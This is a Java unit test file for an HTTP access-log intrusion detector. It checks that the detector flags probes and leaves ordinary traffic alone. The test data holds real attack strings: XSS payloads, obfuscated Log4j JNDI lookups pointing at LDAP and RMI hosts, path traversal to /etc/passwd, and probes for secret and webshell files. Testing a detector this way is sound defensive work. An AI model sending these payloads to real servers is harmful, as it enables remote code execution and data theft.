package dev.nethergaze.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.nethergaze.TestData;
import dev.nethergaze.model.Finding;
import dev.nethergaze.model.HttpHit;
import dev.nethergaze.model.IpKey;
import dev.nethergaze.model.Severity;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** HTTP rules on real attack samples (crowdsec hub) and on near misses that must stay quiet. */
class HttpRulesTest {

    private static final DetectSettings S = DetectSettings.defaults();
    private static final IpKey LOCALHOST = IpKey.parse("127.0.0.1");

    private static Finding only(Detector d, IpKey ip, String rule) {
        return d.findings(ip).stream()
                .filter(f -> f.rule().equals(rule))
                .findFirst()
                .orElseThrow(() -> new AssertionError(rule + " did not fire for " + ip + ": " + d.findings(ip)));
    }

    /** Every line of these crowdsec samples is a probe and must match on its own. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "crowdsec_nginx-http-path-traversal.log",
                "crowdsec_nginx-http-sensitive-files.log",
                "crowdsec_nginx-http-sqli-probing.log",
                "crowdsec_nginx-http-xss-probing.log"
            })
    void everyCrowdsecProbeLineMatches(String file) {
        List<HttpHit> hits = Samples.hits(TestData.path("accesslog/combined/" + file));
        assertThat(hits).isNotEmpty();
        for (HttpHit h : hits) {
            assertThat(ProbePatterns.match(h, List.of()))
                    .as("probe in %s", Evidence.of(h))
                    .isNotNull();
        }
        Detector d = Samples.run(S, hits);
        Finding f = only(d, LOCALHOST, ExploitProbeRule.ID);
        assertThat(f.observed()).isEqualTo(hits.size());
        assertThat(f.evidence())
                .hasSize(S.evidenceItems())
                .allSatisfy(e -> assertThat(e).contains("127.0.0.1"));
        assertThat(f.reason()).contains(hits.size() + " exploit probes");
    }

    /**
     * Markup where no request has any: in the path (reflected in an error page), the user agent or the
     * referrer (blind XSS, aimed at whoever reads the logs in a browser). Ordinary agents and paths with
     * brackets or equals signs stay quiet.
     */
    @Test
    void markupInThePathOrHeadersIsCrossSiteScripting() {
        String[][] probes = {
            {"GET /%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "Mozilla/5.0", "-", "path"},
            {"GET /search/<svg/onload=alert(1)> HTTP/1.1", "Mozilla/5.0", "-", "path"},
            {"GET / HTTP/1.1", "<img src=x onerror=\"document.title='pwned'\">", "-", "user agent"},
            {"GET / HTTP/1.1", "Mozilla/5.0", "javascript:alert(document.domain)", "referrer"},
            // an event handler without markup: the path's probe reaches headers too
            {"GET / HTTP/1.1", "Mozilla/5.0 autofocus onfocus=fetch(atob(location.hash.slice(1)))", "-", "user agent"},
            {"GET / HTTP/1.1", "Mozilla/5.0", "https://a.example/ ontoggle = steal", "referrer"},
        };
        for (String[] p : probes) {
            HttpHit h = Samples.hit("203.0.113.5 - - [10/Mar/2025:10:00:00 +0000] \"" + p[0] + "\" 404 12 \"" + p[2]
                    + "\" \"" + p[1] + "\"");
            ProbePatterns.Match m = ProbePatterns.match(h, List.of());
            assertThat(m).as(p[0] + " / " + p[1] + " / " + p[2]).isNotNull();
            assertThat(m.probe().name()).isEqualTo("cross-site scripting");
            assertThat(m.field()).isEqualTo(p[3]);
        }
        String[][] quiet = {
            {
                "GET /products/(2024)/list?sort=price&page=2 HTTP/1.1",
                "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"
            },
            {"GET /blog/a-b=c HTTP/1.1", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"},
            {"GET /img/logo.svg HTTP/1.1", "curl/8.5.0"},
        };
        for (String[] q : quiet) {
            HttpHit h = Samples.hit("198.51.100.5 - - [10/Mar/2025:10:00:00 +0000] \"" + q[0]
                    + "\" 200 12 \"https://example.org/?a=1\" \"" + q[1] + "\"");
            assertThat(ProbePatterns.match(h, List.of()))
                    .as(q[0] + " / " + q[1])
                    .isNull();
        }
    }

    @Test
    void traversalEvidenceNamesTheDecodedKind() {
        Detector d = Samples.run(
                S, Samples.hits(TestData.path("accesslog/combined/crowdsec_nginx-http-path-traversal.log")));
        Finding f = only(d, LOCALHOST, ExploitProbeRule.ID);
        // %252E%252E%252F is ../ encoded twice; /%2fetc%2fpasswd is /etc/passwd once
        assertThat(f.reason()).contains("system file read").contains("path traversal");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void apacheProbingSampleIsProbingAndAnErrorBurst() {
        List<HttpHit> hits = Samples.hits(TestData.path("accesslog/common/crowdsec_apache-http-probing.log"));
        Detector d = Samples.run(S, hits);
        IpKey ip = IpKey.parse("172.17.0.1");
        assertThat(only(d, ip, ExploitProbeRule.ID).evidence()).isNotEmpty();
        Finding errors = only(d, ip, ErrorBurstRule.ID);
        assertThat(errors.observed()).isGreaterThanOrEqualTo(S.http().errorMin());
        assertThat(errors.evidence()).allSatisfy(e -> assertThat(e).contains("\" 404 "));
    }

    @Test
    void niktoUserAgentIsAScanner() {
        Detector d =
                Samples.run(S, Samples.hits(TestData.path("accesslog/combined/crowdsec_nginx-bad-user-agent.log")));
        Finding f = only(d, LOCALHOST, ScannerAgentRule.ID);
        assertThat(f.reason()).contains("'nikto'").contains("3 requests");
        assertThat(f.evidence()).hasSize(3).allSatisfy(e -> assertThat(e).contains("Nikto/2.1.5"));
    }

    @Test
    void scannerAgentIsCheckedOverRecentRequestsNotJustTheLast() {
        String ip = "203.0.113.9";
        List<HttpHit> hits = List.of(
                Samples.hit(ip + " - - [29/Sep/2021:14:11:34 +0200] \"GET / HTTP/1.1\" 200 10 \"-\" \"sqlmap/1.7\""),
                Samples.hit(ip + " - - [29/Sep/2021:14:11:35 +0200] \"GET /a HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\""));
        assertThat(only(Samples.run(S, hits), IpKey.parse(ip), ScannerAgentRule.ID)
                        .evidence())
                .singleElement()
                .asString()
                .contains("sqlmap");
    }

    /**
     * Two scanners from one IP: each is named with its own count (the reason named only the latest
     * agent for every hit: 'nikto' on 4 requests when 3 were zgrab).
     */
    @Test
    void scannerAgentNamesEachAgentWithItsCount() {
        String ip = "203.0.113.9";
        String at = " - - [05/Dec/2026:22:00:0";
        String zgrab = " HTTP/1.1\" 404 1 \"-\" \"Mozilla/5.0 zgrab/0.x\"";
        List<HttpHit> hits = List.of(
                Samples.hit(ip + at + "1 +0000] \"GET /a" + zgrab),
                Samples.hit(ip + at + "2 +0000] \"GET /b" + zgrab),
                Samples.hit(ip + at + "3 +0000] \"GET /c" + zgrab),
                Samples.hit(ip + at + "4 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.00 (Nikto/2.1.6)\""));
        Finding f = only(Samples.run(S, hits), IpKey.parse(ip), ScannerAgentRule.ID);
        assertThat(f.reason()).isEqualTo("scanner user agents on 4 requests: 'zgrab' 3, 'nikto' 1");
        assertThat(f.observed()).isEqualTo(4);
    }

    /** Log4j arrives in headers and is obfuscated; it must match after decoding. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"GET / HTTP/1.1\" 400 0 \"-\" \"${jndi:ldap://198.51.100.5:1389/a}\"",
                "\"GET / HTTP/1.1\" 400 0 \"${${lower:j}ndi:${lower:l}dap://x/a}\" \"Mozilla/5.0\"",
                "\"GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0\"",
                "\"GET / HTTP/1.1\" 200 0 \"-\" \"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}\"",
            })
    void log4jInHeadersAndQueries(String rest) {
        HttpHit h = Samples.hit("2001:db8::66 - - [10/Dec/2021:12:00:00 +0000] " + rest);
        ProbePatterns.Match m = ProbePatterns.match(h, List.of());
        assertThat(m).isNotNull();
        assertThat(m.probe().id()).isEqualTo("log4j");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/.git/config",
                "/.git/HEAD",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/.env",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "/index.php?s=/Index/\\think\\app/invokefunction",
                "/shell.php",
                "/cgi-bin/..%2f..%2f..%2fbin/sh"
            })
    void strongProbes(String target) {
        HttpHit h = Samples.hit(
                "192.0.2.50 - - [22/Nov/2026:03:00:00 +0000] \"GET " + target + " HTTP/1.1\" 404 0 \"-\" \"curl/8.5\"");
        assertThat(ProbePatterns.match(h, List.of())).as(target).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/.github/workflows/ci.yml",
                "/.well-known/acme-challenge/abc",
                "/blog/2026/environment-variables",
                "/search?q=select+a+union+rep",
                "/docs/git/",
                "/static/app.js?v=3"
            })
    void nearMissPathsDoNotMatch(String target) {
        HttpHit h = Samples.hit("192.0.2.50 - - [22/Nov/2026:03:00:00 +0000] \"GET " + target
                + " HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0\"");
        assertThat(ProbePatterns.match(h, List.of())).as(target).isNull();
    }

    @Test
    void wordpressOwnerLoggingInOnceIsNotAProbe() {
        String ip = "198.51.100.70";
        List<HttpHit> hits = List.of(
                Samples.hit(
                        ip
                                + " - - [22/Nov/2026:03:00:00 +0000] \"GET /wp-login.php HTTP/1.1\" 200 4000 \"-\" \"Mozilla/5.0\""),
                Samples.hit(ip + " - - [22/Nov/2026:03:00:09 +0000] \"POST /wp-login.php HTTP/1.1\" 302 0 "
                        + "\"https://example.org/wp-login.php\" \"Mozilla/5.0\""),
                Samples.hit(
                        ip
                                + " - - [22/Nov/2026:03:00:10 +0000] \"GET /wp-admin/ HTTP/1.1\" 200 9000 \"-\" \"Mozilla/5.0\""));
        assertThat(Samples.run(S, hits).findings(IpKey.parse(ip))).isEmpty();
    }

    @Test
    void wordpressLoginHammeredOrMissingIsAProbe() {
        String ip = "198.51.100.71";
        List<HttpHit> missing = List.of(Samples.hit(
                ip + " - - [22/Nov/2026:03:00:00 +0000] \"GET /wp-login.php HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\""));
        assertThat(only(Samples.run(S, missing), IpKey.parse(ip), ExploitProbeRule.ID)
                        .reason())
                .contains("WordPress login");
        List<HttpHit> hammered = new ArrayList<>();
        for (int i = 0; i < S.http().weakProbeHits(); i++) {
            hammered.add(Samples.hit(ip + " - - [22/Nov/2026:03:00:1" + i
                    + " +0000] \"POST /wp-login.php HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0\""));
        }
        assertThat(only(Samples.run(S, hammered), IpKey.parse(ip), ExploitProbeRule.ID)
                        .observed())
                .isEqualTo(1);
    }

    @Test
    void allowedPathsAreNotProbes() {
        HttpHit h = Samples.hit(
                "192.0.2.50 - - [22/Nov/2026:03:00:00 +0000] \"GET /cgi-bin/status HTTP/1.1\" 404 0 \"-\" \"Mozilla/5.0\"");
        assertThat(ProbePatterns.match(h, List.of("/cgi-bin/"))).isNull();
        assertThat(ProbePatterns.match(h, List.of())).isNotNull();
    }

    /** A busy, legitimate API client: 4 requests/s for 5 minutes, all 200s: no burst, no errors. */
    @Test
    void busyApiClientIsNotFlagged() {
        Instant t0 = Instant.parse("2026-11-22T03:00:00Z");
        IpKey ip = IpKey.parse("2001:db8:a91::7");
        List<HttpHit> hits = new ArrayList<>();
        for (int s = 0; s < 300; s++) {
            for (int k = 0; k < 4; k++) {
                hits.add(new HttpHit(
                        "api",
                        t0.plusSeconds(s),
                        ip,
                        ip,
                        "POST",
                        "/api/v1/events?batch=" + (s * 4 + k),
                        "HTTP/1.1",
                        k == 3 && s % 50 == 0 ? 429 : 200,
                        120,
                        "-",
                        "acme-sync/2.3 (+ops@example.org)",
                        "",
                        false));
            }
        }
        assertThat(Samples.run(S, hits).findings(ip)).isEmpty();
    }

    /**
     * An error burst ends when its errors stop being half of the answers: here when its oldest errors
     * have left the minute (after t0 + 60 s; their 5 s bucket leaves whole at t0 + 65 s), while 20
     * errors are still in it. Before, it ended at the next periodic re-judgement, a second later.
     */
    @Test
    void anErrorBurstEndsWhenItsShareFallsUnderTheThreshold() {
        Instant t0 = Instant.parse("2026-11-22T03:00:00Z");
        IpKey ip = IpKey.parse("192.0.2.97");
        Detector d = new Detector(S, Allowlist.EMPTY, 100);
        send(d, ip, t0, 20, 404);
        send(d, ip, t0.plusSeconds(20), 20, 404);
        send(d, ip, t0.plusSeconds(40), 30, 200); // 40 errors of 70 answers: 57 %
        assertThat(only(d, ip, ErrorBurstRule.ID).observed()).isEqualTo(40);
        d.catchUp(t0.plusSeconds(3600));
        assertThat(Samples.endedAt(d, ip, ErrorBurstRule.ID)).isEqualTo(t0.plusSeconds(65)); // 20 of 50: 40 %
    }

    /** {@code n} answers with this status at {@code t}, then a judgement at {@code t}. */
    private static void send(Detector d, IpKey ip, Instant t, int n, int status) {
        for (int i = 0; i < n; i++) {
            d.observe(new HttpHit("t", t, ip, ip, "GET", "/e" + i, "HTTP/1.1", status, 1, "-", "x", "", false));
        }
        d.evaluate(t);
    }

    @Test
    void burstAboveTheRateFiresAndDecays() {
        Instant t0 = Instant.parse("2026-11-22T03:00:00Z");
        IpKey ip = IpKey.parse("192.0.2.99");
        Detector d = new Detector(S, Allowlist.EMPTY, 100);
        for (int i = 0; i < 150; i++) {
            d.observe(new HttpHit(
                    "t", t0.plusMillis(i * 40L), ip, ip, "GET", "/p" + i, "HTTP/1.1", 200, 1, "-", "x", "", false));
        }
        d.evaluate(t0.plusSeconds(6));
        Finding f = only(d, ip, RequestBurstRule.ID);
        assertThat(f.observed()).isEqualTo(150);
        assertThat(f.evidence()).hasSize(S.evidenceItems());
        d.evaluate(t0.plusSeconds(60));
        assertThat(d.findings(ip)).isEmpty();
    }

    /**
     * The burst ring keeps requests only near a burst; whenever the rule fires, its evidence must
     * still be exactly the IP's latest requests, in arrival order. Random streams: quiet spells,
     * bursts just above and below the threshold, jittered and late (out-of-order) timestamps.
     */
    @Test
    void burstEvidenceIsAlwaysTheLatestRequests() {
        int fired = latestEvidence(
                RequestBurstRule.ID, S.http().burstRequests(), S.http().burstSeconds(), rnd -> 200, h -> true);
        assertThat(fired).as("the streams must reach the threshold often").isGreaterThan(100);
    }

    /**
     * The same for the error ring, kept only near the error rule's minimum: whenever the rule fires,
     * its evidence is exactly the IP's latest 4xx/5xx answers, in arrival order (one answer in five a
     * 200, so the errors stay most of them).
     */
    @Test
    void errorEvidenceIsAlwaysTheLatestErrors() {
        int fired = latestEvidence(
                ErrorBurstRule.ID,
                S.http().errorMin(),
                S.http().errorSeconds(),
                rnd -> rnd.nextInt(5) == 0 ? 200 : 400 + rnd.nextInt(200),
                h -> h.status() >= 400);
        assertThat(fired).as("the streams must reach the minimum often").isGreaterThan(100);
    }

    /**
     * Random streams of spells of about {@code threshold} answers (statuses from {@code status}) over
     * about one window, quiet spells between them and late lines; each time {@code rule} fires, its
     * evidence must be the latest of the answers that {@code kept} says it shows. Returns how often it fired.
     */
    private static int latestEvidence(
            String rule,
            int threshold,
            int seconds,
            java.util.function.ToIntFunction<java.util.Random> status,
            java.util.function.Predicate<HttpHit> kept) {
        Instant t0 = Instant.parse("2026-11-22T03:00:00Z");
        IpKey ip = IpKey.parse("192.0.2.98");
        int fired = 0;
        for (long seed = 1; seed <= 40; seed++) {
            java.util.Random rnd = new java.util.Random(seed);
            Detector d = new Detector(S, Allowlist.EMPTY, 100);
            List<HttpHit> sent = new ArrayList<>();
            long ms = 0;
            for (int spell = 0; spell < 12; spell++) {
                // a spell of n answers over about one window: sometimes over the threshold
                int n = rnd.nextInt(threshold + threshold / 2);
                long span = seconds * 1000L;
                for (int i = 0; i < n; i++) {
                    long at = ms + span * i / Math.max(1, n) + rnd.nextInt(300);
                    if (rnd.nextInt(20) == 0) {
                        at -= 1000L * rnd.nextInt(2 * seconds); // a late line from a lagging writer
                    }
                    HttpHit h = new HttpHit(
                            "t",
                            t0.plusMillis(Math.max(0, at)),
                            ip,
                            ip,
                            "GET",
                            "/s" + spell + "/" + i,
                            "HTTP/1.1",
                            status.applyAsInt(rnd),
                            1,
                            "-",
                            "x",
                            "",
                            false);
                    if (kept.test(h)) {
                        sent.add(h);
                    }
                    d.observe(h);
                    d.evaluate(t0.plusMillis(Math.max(0, ms + span * i / Math.max(1, n))));
                    List<Finding> found = d.findings(ip).stream()
                            .filter(f -> f.rule().equals(rule))
                            .toList();
                    if (!found.isEmpty()) {
                        fired++;
                        List<String> expected =
                                sent.subList(Math.max(0, sent.size() - S.evidenceItems()), sent.size()).stream()
                                        .map(Evidence::of)
                                        .toList();
                        assertThat(found.getFirst().evidence())
                                .as("seed %d, answer %d", seed, sent.size())
                                .isEqualTo(expected);
                    }
                }
                ms += span + 1000L * rnd.nextInt(3 * seconds); // then quiet, maybe long enough to decay
            }
        }
        return fired;
    }

    @Test
    void realSiteLogRaisesFewFlags() {
        Path file = TestData.path("accesslog/combined/drill_hackers-access_basjes.log");
        List<HttpHit> hits = Samples.hits(file);
        Detector d = new Detector(S, Allowlist.EMPTY, 10_000);
        for (HttpHit h : hits) {
            d.observe(h);
            d.evaluate(h.time());
        }
        // 520 clients on a real blog: a handful of probers at most, and the bot network failing to log in
        // to its Plone form all week (346 addresses, 60 to 86 a day: HttpLoginSprayRuleTest), whose
        // addresses of the last day are flagged as one slow distributed guess, each with its own attempts
        java.util.Set<IpKey> posters = new java.util.HashSet<>();
        for (HttpHit h : hits) {
            if (h.method().equals("POST") && h.target().endsWith("/login_form")) { // some in absolute form
                posters.add(h.client());
            }
        }
        List<IpKey> others = d.flagged().stream()
                .filter(ip -> !d.findings(ip).stream().allMatch(f -> f.rule().equals(HttpLoginSprayRule.SLOW_ID)))
                .toList();
        assertThat(others.size()).isLessThan(20);
        for (IpKey ip : d.flagged()) {
            assertThat(d.findings(ip)).allSatisfy(f -> assertThat(f.evidence()).isNotEmpty());
            if (!others.contains(ip)) {
                assertThat(posters).contains(ip);
                assertThat(d.findings(ip).getFirst().evidence())
                        .allSatisfy(e -> assertThat(e).contains("POST ").contains("/login_form HTTP"));
            }
        }
    }
}
